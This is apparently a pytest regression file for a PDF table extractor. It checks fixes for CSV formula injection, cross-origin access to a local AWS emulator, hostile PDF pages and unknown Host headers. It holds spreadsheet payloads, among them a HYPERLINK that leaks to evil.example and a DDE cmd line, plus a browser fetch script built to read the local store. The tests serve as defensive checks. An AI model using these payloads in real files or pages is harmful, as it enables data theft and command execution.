"""Issue 15, findings 3, 5, 6 and the Host part of 7: each attack or fault as it was reproduced,
and what happens now (docs/RELIABILITY.md lists them).

- 3: while `doctables serve` runs, a web page could read and write its data through the moto
  endpoint (CORS for any origin, fake signatures accepted), and `--host` exposed that endpoint.
- 5: CSV cells a spreadsheet evaluates (formula injection) were written unchanged.
- 6: `extract()` took page 0 and -1, failed with AttributeError on a wrong source and with a raw
  MuPDF error on a hostile page.
- 7 (Host): the review page answered `Host: evil.example` with a 500."""

from __future__ import annotations

import csv
import http.server
import io
import json
import threading
import urllib.error
import urllib.request
import zipfile
from pathlib import Path

import pymupdf
import pytest
from conftest import SAMPLE

import doctables
from doctables.errors import DocumentError, ErrorCode
from doctables.model.tables import Table
from doctables.outputs.exports import to_csv, to_xlsx, write_exports

# --- documents built here (no binary fixtures) ------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak","click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
]
ROWS = [
    ["Item", "Amount", "Note"],
    ["North", "-12.5", FORMULAS[0]],
    ["South", "+3", FORMULAS[1]],
    ["East", "1,204.5", FORMULAS[2]],
    ["West", "-4", FORMULAS[3]],
]


def formula_pdf() -> bytes:
    """One ruled table whose cells hold formulas a spreadsheet would run, beside plain numbers."""
    document = pymupdf.open()
    page = document.new_page(width=612, height=792)
    x, top, height = [72, 180, 270, 540], 120, 22
    for r, row in enumerate(ROWS):
        for c, text in enumerate(row):
            page.insert_text((x[c] + 4, top + r * height + 15), text, fontsize=10, fontname="helv")
    for r in range(len(ROWS) + 1):
        page.draw_line((x[0], top + r * height), (x[-1], top + r * height), width=0.8)
    for xi in x:
        page.draw_line((xi, top), (xi, top + len(ROWS) * height), width=0.8)
    return document.tobytes()


def nested_q_page(document: pymupdf.Document) -> None:
    """Append a page whose content stream nests 500,000 `q` (save graphics state) operators:
    MuPDF stops it with FzErrorLimit ("too many nested graphics states")."""
    page = document.new_page(width=612, height=792)
    page.insert_text((72, 72), "nested")
    document.update_stream(page.get_contents()[0], b"q " * 500_000 + b"0 0 m 10 10 l S " + b"Q " * 500_000)


def nested_q_pdf(*, with_good_page: bool) -> bytes:
    """A deflated PDF of a few KB: the hostile page alone, or after the sample's first page."""
    document = pymupdf.open()
    if with_good_page:
        document.insert_pdf(pymupdf.open(SAMPLE), from_page=0, to_page=0)
    nested_q_page(document)
    return document.tobytes(deflate=True)


def grid_of(csv_text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(csv_text)))


@pytest.fixture(scope="module")
def pipeline():
    """The formula document through the local pipeline with S3 exports on: its result, and the
    CSV and XLSX files written beside it."""
    from doctables.local.stack import LocalStack
    from doctables.settings import Settings

    with LocalStack(Settings(export_formats="csv,xlsx")) as stack:
        key = stack.upload(formula_pdf(), "formulas.pdf")
        stack.run_until(lambda: stack.event_for_key(key) is not None, timeout=180)
        job_id = stack.event_for_key(key)["detail"]["job_id"]
        result = stack.result(job_id)
        listing = stack.aws.s3.list_objects_v2(Bucket=stack.settings.bucket, Prefix=f"results/{job_id}/")
        files = {o["Key"].rsplit("/", 1)[1]: stack.aws.s3.get_object(Bucket=stack.settings.bucket, Key=o["Key"])
                 ["Body"].read() for o in listing.get("Contents", [])}
    assert result["status"] == "SUCCEEDED" and len(result["tables"]) == 1
    assert Table.from_dict(result["tables"][0]).grid() == ROWS  # the formulas were read as text
    return result, files


# --- 5: CSV formula injection ----------------------------------------------------------------


def _neutralised(grid: list[list[str]]) -> list[list[str]]:
    return [[("'" + text if text in FORMULAS else text) for text in row] for row in grid]


def test_formula_cells_get_a_leading_quote_and_numbers_stay_numbers():
    from doctables.outputs.exports import escape_formula

    for text in [*FORMULAS, "=1+1", "\t=1+1", "\r=1+1", "  =1+1", "+", "--1", "-A1", "@"]:
        assert escape_formula(text) == "'" + text, text
    for text in ["-12.5", "+3", "-1,234.5", "-4%", "-$5.00", "+1e5", ".5", "-", "", "a=b", "x+1", "12", "−3",
                 "Total", " -3 "]:
        assert escape_formula(text) == text, text


def test_to_csv_neutralises_formulas_and_can_opt_out():
    table = Table.from_dict({
        "table_id": "0001-01", "page": 1, "bbox": [0, 0, 100, 100], "page_width": 612, "page_height": 792,
        "rows": len(ROWS), "columns": 3, "confidence": 0.9, "structure_confidence": 0.9, "header_rows": 1,
        "cells": [{"row": r, "col": c, "row_span": 1, "col_span": 1, "text": text, "bbox": [0, 0, 1, 1],
                   "confidence": 0.9, "is_header": r == 0} for r, row in enumerate(ROWS) for c, text in enumerate(row)],
    })
    assert grid_of(to_csv(table)) == _neutralised(ROWS)
    assert grid_of(table.to_csv()) == _neutralised(ROWS)
    assert grid_of(to_csv(table, escape_formulas=False)) == ROWS
    assert grid_of(table.to_csv(escape_formulas=False)) == ROWS


def test_a_semicolon_cannot_start_a_cell_in_a_semicolon_locale():
    table = Table.from_dict({
        "table_id": "0001-01", "page": 1, "bbox": [0, 0, 1, 1], "page_width": 612, "page_height": 792, "rows": 1,
        "columns": 2, "confidence": 1, "structure_confidence": 1, "header_rows": 0,
        "cells": [{"row": 0, "col": 0, "row_span": 1, "col_span": 1, "text": "x;=1+1", "bbox": [0, 0, 1, 1],
                   "confidence": 1, "is_header": False},
                  {"row": 0, "col": 1, "row_span": 1, "col_span": 1, "text": "a\t@b", "bbox": [0, 0, 1, 1],
                   "confidence": 1, "is_header": False}],
    })
    assert to_csv(table) == '"x;=1+1","a\t@b"\r\n'  # each inside quotes: no separator splits it


def test_pipeline_s3_exports_and_run_format_csv_are_neutralised(pipeline, tmp_path, monkeypatch):
    from doctables import cli

    result, files = pipeline
    (csv_name,) = [name for name in files if name.endswith(".csv")]
    assert grid_of(files[csv_name].decode()) == _neutralised(ROWS)  # DOCTABLES_EXPORT_FORMATS

    # `doctables run --format csv`, and with --no-escape-formulas
    pdf = tmp_path / "formulas.pdf"
    pdf.write_bytes(formula_pdf())
    monkeypatch.setattr("doctables.local.run.run_files", lambda *args, **kwargs: [result])
    assert cli.main(["run", str(pdf), "--out", str(tmp_path / "safe"), "--format", "csv", "--quiet"]) == 0
    assert grid_of((tmp_path / "safe" / "formulas-0001-01.csv").read_text()) == _neutralised(ROWS)
    assert cli.main(["run", str(pdf), "--out", str(tmp_path / "raw"), "--format", "csv", "--quiet",
                     "--no-escape-formulas"]) == 0
    assert grid_of((tmp_path / "raw" / "formulas-0001-01.csv").read_text()) == ROWS

    # `doctables get JOB --format csv`, and with --no-escape-formulas
    class Stored:
        def result(self, job_id):
            return result

        def download(self, job_id, out_dir, formats):
            return write_exports(result, Path(out_dir), formats, "formulas")

    monkeypatch.setattr(cli, "_client", lambda args: Stored())
    assert cli.main(["get", result["job_id"], "--format", "csv", "--out", str(tmp_path / "got")]) == 0
    assert grid_of((tmp_path / "got" / "formulas-0001-01.csv").read_text()) == _neutralised(ROWS)
    assert cli.main(["get", result["job_id"], "--format", "csv", "--out", str(tmp_path / "gotraw"),
                     "--no-escape-formulas"]) == 0
    assert grid_of((tmp_path / "gotraw" / "formulas-0001-01.csv").read_text()) == ROWS


def test_extract_outputs_are_neutralised(tmp_path):
    document = doctables.extract(formula_pdf())
    (table,) = document.tables
    assert grid_of(table.to_csv()) == _neutralised(ROWS)
    (safe,) = document.save(tmp_path / "safe", ["csv"])
    assert grid_of(safe.read_text()) == _neutralised(ROWS)
    (raw,) = document.save(tmp_path / "raw", ["csv"], escape_formulas=False)
    assert grid_of(raw.read_text()) == ROWS


def _xlsx_cells(data: bytes) -> tuple[list[tuple[str, str]], str]:
    """Every cell's (data type, value) of the first sheet, and the sheet's raw XML."""
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    cells = [(cell.data_type, cell.value) for row in sheet.iter_rows() for cell in row if cell.value is not None]
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    return cells, xml


def test_xlsx_keeps_formulas_as_text(pipeline):
    _, files = pipeline
    buffer = io.BytesIO()
    tables = [Table.from_dict(pipeline[0]["tables"][0])]
    to_xlsx(tables, buffer)
    for data in (buffer.getvalue(), files["formulas.xlsx"]):
        cells, xml = _xlsx_cells(data)
        assert ("s", FORMULAS[0]) in cells and ("s", FORMULAS[3]) in cells  # strings, unchanged, no quote
        assert all(kind == "s" for kind, _ in cells)
        assert "<f>" not in xml and "<f " not in xml  # no formula element anywhere


# --- 6: extract() arguments and errors -------------------------------------------------------


@pytest.mark.parametrize("pages", [[0], [-1], [3], [1, 3], [0, 1]])
def test_extract_pages_out_of_range_name_the_valid_range(sample_bytes, pages):
    with pytest.raises(ValueError, match="1 to 2"):
        doctables.extract(sample_bytes, pages=pages)


@pytest.mark.parametrize("pages", [[1, 1], [2, 1, 2], []])
def test_extract_pages_repeated_or_none(sample_bytes, pages):
    with pytest.raises(ValueError, match="1 to 2"):
        doctables.extract(sample_bytes, pages=pages)


@pytest.mark.parametrize("pages", ["1", 1, [1.0], [True]])
def test_extract_pages_of_the_wrong_type(sample_bytes, pages):
    with pytest.raises(TypeError, match="page"):
        doctables.extract(sample_bytes, pages=pages)


@pytest.mark.parametrize("source", [12345, None, 3.5, ["a.pdf"], io.StringIO("%PDF-1.7")])
def test_extract_wrong_source_type_is_a_type_error(source):
    with pytest.raises(TypeError, match="path|bytes|binary"):
        doctables.extract(source)


def test_extract_selected_pages_in_order(sample_bytes):
    document = doctables.extract(sample_bytes, pages=[2, 1])
    assert [p.page for p in document.pages] == [2, 1]
    assert sorted(t.page for t in document.tables) == [1, 2]


def test_nested_q_page_alone_is_a_document_error():
    with pytest.raises(DocumentError) as raised:
        doctables.extract(nested_q_pdf(with_good_page=False))
    assert raised.value.code is ErrorCode.ALL_PAGES_FAILED
    assert "PAGE_UNREADABLE" in raised.value.message and "nested graphics states" in raised.value.message


def test_nested_q_page_fails_alone_as_in_the_pipeline(tmp_path):
    from doctables.local.run import run_files

    data = nested_q_pdf(with_good_page=True)
    document = doctables.extract(data)
    assert [p.status for p in document.pages] == ["DONE", "FAILED"]
    assert document.pages[1].error["code"] == "PAGE_UNREADABLE" and document.status == "PARTIALLY_SUCCEEDED"
    assert [f.page for f in document.failed_pages] == [2]
    ours = document.to_result()

    path = tmp_path / "nested-q.pdf"
    path.write_bytes(data)
    (theirs,) = run_files([path])
    assert theirs["status"] == ours["status"] == "PARTIALLY_SUCCEEDED"
    assert ours["pages"] == theirs["pages"] == {"total": 2, "done": 1, "failed": 1}
    assert [(p["status"], (p["error"] or {}).get("code")) for p in ours["page_results"]] == \
        [(p["status"], (p["error"] or {}).get("code")) for p in theirs["page_results"]]
    assert ours["tables"] == theirs["tables"]


# --- 3: the local AWS endpoint answers no browser ---------------------------------------------

FAKE_SIGNATURE = ("AWS4-HMAC-SHA256 Credential=local/20261202/us-east-1/dynamodb/aws4_request, "
                  "SignedHeaders=host;x-amz-target, Signature=" + "0" * 64)


def _call(url: str, *, method: str = "GET", headers: dict | None = None, body: bytes | None = None):
    request = urllib.request.Request(url, method=method, headers=headers or {}, data=body)
    try:
        with urllib.request.urlopen(request, timeout=10) as answer:
            return answer.status, dict(answer.headers), answer.read()
    except urllib.error.HTTPError as error:
        return error.code, dict(error.headers), error.read()


@pytest.fixture(scope="module")
def service():
    from doctables.local.serve import LocalService

    with LocalService(port=0, interval=0.05) as running:
        running.stack.upload(b"%PDF-1.7 secret", "secret.pdf")
        yield running


def _no_cors(headers: dict) -> bool:
    return not [name for name in headers if name.lower().startswith("access-control-")]


def test_aws_endpoint_refuses_browser_preflights_and_origins(service):
    endpoint = service.endpoint
    preflight = _call(f"{endpoint}/", method="OPTIONS", headers={
        "Origin": "https://evil.example", "Access-Control-Request-Method": "POST",
        "Access-Control-Request-Headers": "authorization,x-amz-target"})
    assert preflight[0] == 403 and _no_cors(preflight[1])
    # the issue's attack: a DynamoDB Scan with a fake signature, from a page's script
    scan = _call(f"{endpoint}/", method="POST", body=json.dumps({"TableName": "doctables-local"}).encode(), headers={
        "Origin": "https://evil.example", "Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "cors",
        "X-Amz-Target": "DynamoDB_20120810.Scan", "Content-Type": "application/x-amz-json-1.0",
        "Authorization": FAKE_SIGNATURE})
    assert scan[0] == 403 and _no_cors(scan[1]) and b"Items" not in scan[2]
    read = _call(f"{endpoint}/doctables-local/uploads/secret.pdf",
                 headers={"Origin": "https://evil.example", "Authorization": FAKE_SIGNATURE})
    assert read[0] == 403 and b"secret" not in read[2]


def test_aws_endpoint_refuses_unsigned_requests_rebound_names_and_moto_api(service):
    endpoint = service.endpoint
    port = endpoint.rsplit(":", 1)[1]
    unsigned = _call(f"{endpoint}/doctables-local/uploads/secret.pdf")  # an <img> or a link: no header
    assert unsigned[0] == 403 and b"secret" not in unsigned[2]
    rebound = _call(f"{endpoint}/doctables-local/uploads/secret.pdf",
                    headers={"Host": f"evil.example:{port}", "Authorization": FAKE_SIGNATURE})
    assert rebound[0] == 400 and b"secret" not in rebound[2]
    for path in ("/moto-api/data.json", "/moto-api/"):
        answer = _call(f"{endpoint}{path}", headers={"Authorization": FAKE_SIGNATURE})
        assert answer[0] == 403 and b"secret" not in answer[2], path
    assert _call(f"{endpoint}/moto-api/reset", method="POST", body=b"")[0] == 403


def test_aws_endpoint_still_answers_boto3(service):
    from doctables.client import Client

    client = Client.local(service.endpoint)
    body = client.aws.s3.get_object(Bucket="doctables-local", Key="uploads/secret.pdf")["Body"].read()
    assert body == b"%PDF-1.7 secret"
    assert "doctables-local" in client.aws.dynamodb.list_tables()["TableNames"]


def test_aws_endpoint_never_listens_beyond_loopback():
    from doctables.local.serve import LocalService
    from doctables.local.stack import LocalStack

    for host in ("0.0.0.0", "::", "192.168.1.10"):
        with pytest.raises(ValueError, match="loopback"):
            LocalService(port=0, host=host)
        with pytest.raises(ValueError, match="loopback"):
            LocalStack(port=0, host=host)


def test_serve_host_moves_only_the_review_page(monkeypatch):
    from doctables import cli
    from doctables.local import serve
    from doctables.local.ui import server
    seen: dict = {}

    class Recorded(serve.LocalService):
        def __init__(self, **kwargs):
            super().__init__(**kwargs)
            seen["service"] = self

    class FakeUi:
        url = "http://0.0.0.0:1/"

        def stop(self):
            pass

    def fake_start_ui(client, *, host, port, max_upload_bytes):
        seen["ui_host"] = host
        return FakeUi()

    def until_interrupted(*stops):
        seen["aws_host"] = seen["service"].stack._server.get_host_and_port()[0]
        for stop in stops:
            stop()

    monkeypatch.setattr(serve, "LocalService", Recorded)
    monkeypatch.setattr(server, "start_ui", fake_start_ui)
    monkeypatch.setattr(cli, "_run_until_interrupted", until_interrupted)
    assert cli.main(["serve", "--host", "0.0.0.0", "--port", "0", "--ui-port", "1"]) == 0
    assert seen["ui_host"] == "0.0.0.0" and seen["aws_host"] == "127.0.0.1"


class _EvilPage(http.server.BaseHTTPRequestHandler):
    """A page on another origin whose script tries the issue's attack."""

    def do_GET(self):  # noqa: N802 - http.server's name
        body = b"<!DOCTYPE html><title>evil</title>"
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


ATTACK = """
const [endpoint, signature, done] = arguments;
const scan = fetch(endpoint + "/", {method: "POST", body: JSON.stringify({TableName: "doctables-local"}),
  headers: {"X-Amz-Target": "DynamoDB_20120810.Scan", "Content-Type": "application/x-amz-json-1.0",
            "Authorization": signature}}).then(r => r.text().then(t => "read " + r.status + " " + t));
const file = fetch(endpoint + "/doctables-local/uploads/secret.pdf", {headers: {"Authorization": signature}})
  .then(r => r.text().then(t => "read " + r.status + " " + t));
Promise.all([scan, file].map(p => p.catch(e => "blocked " + e))).then(done);
"""


def test_a_web_page_in_chromium_cannot_read_the_local_stack(service, tmp_path):
    """The issue's reproduction in a real browser: a page on another origin fetches the AWS
    endpoint with a fake signature. Before: both reads succeeded; now the browser gets no answer
    it may read."""
    from browser_support import CHROMIUM_FLAGS, require_browser

    chromium, driver_path = require_browser()
    from selenium import webdriver
    from selenium.webdriver.chrome.service import Service

    evil = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _EvilPage)
    threading.Thread(target=evil.serve_forever, daemon=True).start()
    options = webdriver.ChromeOptions()
    options.binary_location = chromium
    for flag in CHROMIUM_FLAGS:
        options.add_argument(flag)
    options.add_argument(f"--user-data-dir={tmp_path / 'profile'}")
    driver = webdriver.Chrome(service=Service(executable_path=driver_path), options=options)
    try:
        driver.set_script_timeout(30)
        driver.get(f"http://127.0.0.1:{evil.server_address[1]}/")  # another origin than the endpoint
        outcomes = driver.execute_async_script(ATTACK, service.endpoint, FAKE_SIGNATURE)
    finally:
        driver.quit()
        evil.shutdown()
        evil.server_close()
    assert len(outcomes) == 2
    for outcome in outcomes:
        assert outcome.startswith("blocked"), outcome
        assert "secret" not in outcome and "Items" not in outcome


# --- 7: unknown Host headers to the review page ------------------------------------------------


def test_review_page_answers_unknown_hosts_with_400(service):
    from doctables.client import Client
    from doctables.local.ui.server import start_ui

    ui = start_ui(Client.local(service.endpoint), host="127.0.0.1", port=0)
    try:
        for path in ("", "api/jobs", "jobs/" + "0" * 32, "static/review.css", "nope"):
            for host in ("evil.example", f"evil.example:{ui.port}", "127.0.0.1.evil.example"):
                status, headers, body = _call(ui.url + path, headers={"Host": host})
                assert status == 400, (path, host, status)
                assert _no_cors(headers) and headers["X-Content-Type-Options"] == "nosniff"
            assert _call(ui.url + path, headers={"Host": f"localhost:{ui.port}"})[0] in (200, 404), path
        assert _call(ui.url, headers={"Host": f"127.0.0.1:{ui.port}"})[0] == 200
    finally:
        ui.stop()


def test_review_page_beyond_loopback_answers_this_machines_names_only():
    import socket

    from doctables.local.ui.server import host_is_answered, trusted_hosts_for

    loopback = trusted_hosts_for("127.0.0.1")
    assert host_is_answered("localhost:8700", loopback) and host_is_answered("[::1]:8700", loopback)
    assert host_is_answered("127.0.0.1:8700", loopback)
    wide = trusted_hosts_for("0.0.0.0")
    assert host_is_answered(f"{socket.gethostname()}:8700", wide)
    assert host_is_answered("192.168.1.10:8700", wide)  # an address: no DNS name to rebind
    for host in ("evil.example", "evil.example:8700", "", None, "localhost.evil.example"):
        assert not host_is_answered(host, wide), host
